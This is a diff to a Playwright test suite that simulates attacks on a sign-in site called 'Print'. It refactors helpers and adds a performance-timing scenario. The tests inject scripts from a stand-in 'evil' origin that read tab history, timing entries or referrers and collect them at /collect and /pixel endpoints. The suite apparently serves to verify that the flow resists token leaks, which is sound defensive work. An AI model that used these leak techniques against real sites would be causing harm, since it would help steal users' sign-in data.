@@ -1,6 +1,6 @@
 import type { Page } from "@playwright/test";
 import { ALICE } from "../../../src/grants/cast.ts";
-import { lootIn, useLoot } from "../attacker.ts";
+import { lootIn, spendLoot } from "../attacker.ts";
 import { beginAtPrint, signInAndAllow, signInToPrint } from "../people.ts";
 import type { RealAttack, Scene } from "../scene.ts";
 
@@ -13,20 +13,15 @@ export const thirdPartyScript: RealAttack = {
   async run(scene) {
     await arriveBeforePrintsScript(scene);
     const reports = await scene.sites.evil.arrivals("/collect", EVERY_PAGE);
-    return useLoot(scene, lootIn(reports.map(({ body }) => body)));
+    return spendLoot(scene, lootIn(reports.map(({ body }) => body)));
   },
 };
 
 /** A script that runs once Print has finished reads the history of the tab. */
-export const history: RealAttack = {
-  async run(scene) {
-    const { alice, sites } = scene;
-    await signInToPrint(alice, sites, ALICE);
-    await alice.addScriptTag({ url: `${sites.origins.evil}/read-history.js` });
-    const reports = await sites.evil.arrivals("/collect", 1);
-    return useLoot(scene, lootIn(reports.flatMap(({ body }) => body.split("\n"))));
-  },
-};
+export const history = afterwards("read-history");
+
+/** The same asks for the performance entry of the page's navigation. */
+export const performanceEntry = afterwards("read-timing");
 
 /** Print's page has a picture of the attacker's in it. */
 export const referrer: RealAttack = {
@@ -34,12 +29,12 @@ export const referrer: RealAttack = {
   async run(scene) {
     await arriveBeforePrintsScript(scene);
     const pictures = await scene.sites.evil.arrivals("/pixel", EVERY_PAGE);
-    return useLoot(scene, lootIn(pictures.map(({ referrer }) => referrer)));
+    return spendLoot(scene, lootIn(pictures.map(({ referrer }) => referrer)));
   },
 };
 
 /** Alice signs in; on the page with the answer, Print's own script is slow to load and the attacker is quick. */
-async function arriveBeforePrintsScript({ alice, sites }: Scene): Promise<void> {
+export async function arriveBeforePrintsScript({ alice, sites }: Scene): Promise<void> {
   await beginAtPrint(alice, sites);
   await withoutScript(alice, sites.origins.print);
   await signInAndAllow(alice, ALICE);
@@ -47,4 +42,16 @@ async function arriveBeforePrintsScript({ alice, sites }: Scene): Promise<void> 
 
 function withoutScript(page: Page, print: string) {
   return page.route(`${print}/page.js`, () => undefined);
+}
+
+function afterwards(script: string): RealAttack {
+  return {
+    async run(scene) {
+      const { alice, sites } = scene;
+      await signInToPrint(alice, sites, ALICE);
+      await alice.addScriptTag({ url: `${sites.origins.evil}/${script}.js` });
+      const reports = await sites.evil.arrivals("/collect", 1);
+      return spendLoot(scene, lootIn(reports.flatMap(({ body }) => body.split("\n"))));
+    },
+  };
 }
